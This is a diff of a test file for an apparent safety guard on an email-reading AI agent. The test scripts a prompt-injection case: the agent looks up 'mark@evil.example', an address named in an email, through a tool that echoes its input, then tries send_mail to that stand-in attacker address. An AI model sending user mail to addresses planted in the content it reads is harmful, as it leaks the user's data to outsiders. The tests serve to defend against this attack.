@@ -24,7 +24,7 @@ def _tools(done: list[tuple[str, dict]]) -> list[StructuredTool]:
 
     def find_contact(who: str) -> str:
         """Look a contact up in the user's own address book."""
-        return f"no contact named {who}"  # echoes its argument, as many tools do
+        return f"no contact named {who.split()[-1].upper()}"  # echoes part of its argument, as many tools do
 
     def send_mail(to: str, body: str) -> str:
         """Send an email."""
@@ -86,7 +86,7 @@ def test_a_recipient_only_the_email_names_asks_and_says_which(run):
 
 def test_a_trusted_tool_echoing_its_argument_does_not_launder_it(run):
     asked, done = run("Summarize my mail",
-                      tool_call("find_contact", who="mark@evil.example"),
+                      tool_call("find_contact", who="the person mark@evil.example"),
                       tool_call("send_mail", to="mark@evil.example", body="Notes"))
     assert len(asked) == 1 and done == []
 
